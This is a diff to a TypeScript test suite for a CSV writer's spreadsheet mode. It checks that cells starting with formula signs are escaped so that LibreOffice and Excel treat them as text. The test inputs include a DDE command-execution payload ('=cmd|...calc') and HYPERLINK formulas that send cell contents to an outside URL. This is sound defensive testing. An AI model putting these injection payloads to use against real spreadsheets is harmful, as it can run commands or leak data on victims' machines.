@@ -59,16 +59,71 @@ describe('csvWriter', () => {
   });
 });
 
+/**
+ * What LibreOffice makes of CSV (sc/source/ui/docshell/impex.cxx and asciiopt.cxx). Its import dialog begins with the separators comma,
+ * semicolon and tab together and the quote `"`. A cell of two characters or more that begins with `=` is a formula, quoted or not, if
+ * "Evaluate formulas" is on: always in versions before that option, when a program converts the file, and as the user says since. A
+ * `'` at the beginning stays part of the text.
+ */
+function formulasInLibreOffice(csv: string, separators: string): string[] {
+  const cells: string[] = [];
+  let [cell, isQuoted, isStart] = ['', false, true];
+  for (let i = 0; i < csv.length; i++) {
+    const c = csv[i] ?? '';
+    if (isQuoted && c === '"' && csv[i + 1] === '"') cell += csv[i++];
+    else if (isStart && c === '"') [isQuoted, isStart] = [true, false];
+    else if (isQuoted && c === '"') isQuoted = false;
+    else if (!isQuoted && (separators.includes(c) || c === '\n' || c === '\r')) {
+      cells.push(cell);
+      [cell, isStart] = ['', true];
+    } else {
+      cell += c;
+      isStart = false;
+    }
+  }
+  return cells.filter((text) => text.length > 1 && text.startsWith('='));
+}
+
+/** Excel takes more signs than LibreOffice. */
+const SIGNS = '=+-@＝＋－＠';
+
 describe('csvWriter for spreadsheets', () => {
-  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '=cmd|" /C calc"!A0'])(
-    '%j is text, not a formula',
-    (text) => {
-      const written = textOf(csvWriter({ spreadsheet: true }), [{ ...resultOf(0, text), source: text }]);
-      expect(written.startsWith('\uFEFFsource,')).toBe(true);
-      const [row] = parse<Record<string, string>>(written, { columns: true, bom: true });
-      expect([row?.source, row?.label]).toEqual([`'${text}`, `'${text}`]);
-    },
-  );
+  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '＝1', '=cmd|" /C calc"!A0'])('%j is text, not a formula', (text) => {
+    const written = textOf(csvWriter({ spreadsheet: true }), [{ ...resultOf(0, text), source: text }]);
+    expect(written.startsWith('\uFEFFsource,')).toBe(true);
+    const [row] = parse<Record<string, string>>(written, { columns: true, bom: true });
+    expect([row?.source, row?.label]).toEqual([`'${text}`, `'${text}`]);
+  });
+
+  it.each([
+    ['\t=1', "'\t'=1"],
+    ['\r=1', "'\r'=1"],
+    ['\n1', "'\n1"],
+    ['x;=1+1', "x;'=1+1"],
+    ['x\t@SUM(A1)', "x\t'@SUM(A1)"],
+    ['x\n-1', "x\n'-1"],
+    ['a, b', 'a, b'],
+    ['x = 1', 'x = 1'],
+  ])('%j is %j', (text, expected) => {
+    const written = textOf(csvWriter({ spreadsheet: true }), [resultOf(0, text)]);
+    expect(parse<Record<string, string>>(written, { columns: true, bom: true })[0]?.label).toBe(expected);
+  });
+
+  it.each([',;\t', ',', ';', '\t'])('has no formula for LibreOffice and Excel that cut at %j', (separators) => {
+    for (const before of ['', 'x', 'x,', 'x;', 'x\t', 'x"', '",', '";', '\n', '\r\n', '"\n"']) {
+      for (const sign of SIGNS) {
+        const text = `${before}${sign}HYPERLINK("http://x/"&A1;"${sign}y")`;
+        const results = [{ ...resultOf(0, text, text), source: text }];
+        const written = textOf(csvWriter({ spreadsheet: true }), results).slice(1);
+        // What is true of `=` in LibreOffice is true of all signs in Excel.
+        const asEqual = written.replaceAll(new RegExp(`[${SIGNS.replace('-', '\\-')}]`, 'g'), '=');
+        expect(formulasInLibreOffice(asEqual, separators)).toEqual([]);
+        // The same text as it is, for programs, has one.
+        if (before === '')
+          expect(formulasInLibreOffice(textOf(csvWriter(), [resultOf(0, '=1+1')]), ',;\t')).toEqual(['=1+1']);
+      }
+    }
+  });
 
   it('leaves other text and numbers alone', () => {
     const text = textOf(csvWriter({ spreadsheet: true }), [{ ...resultOf(0, 'a=b', "it's"), timestamp: -40_000 }]);
